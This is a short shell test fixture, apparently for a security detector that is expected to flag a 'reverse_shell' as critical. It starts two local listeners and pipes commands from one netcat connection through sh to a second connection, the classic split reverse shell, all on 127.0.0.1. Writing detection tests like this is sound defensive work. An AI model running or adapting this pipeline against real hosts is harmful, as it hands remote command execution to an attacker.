# about: two connections: one for commands, one for answers
# expect: reverse_shell critical
# needs: nc python3
peer 4901; FIRST=$PEER
python3 -c 'import socket; l=socket.socket(); l.setsockopt(1,2,1); l.bind(("127.0.0.1",4902)); l.listen(1); c,_=l.accept(); c.settimeout(3)
try:
    while c.recv(999): pass
except OSError: pass' & SECOND=$!
sleep 0.3
(nc -w 3 127.0.0.1 4901 | sh | nc -w 3 127.0.0.1 4902) || true
wait $FIRST $SECOND || true
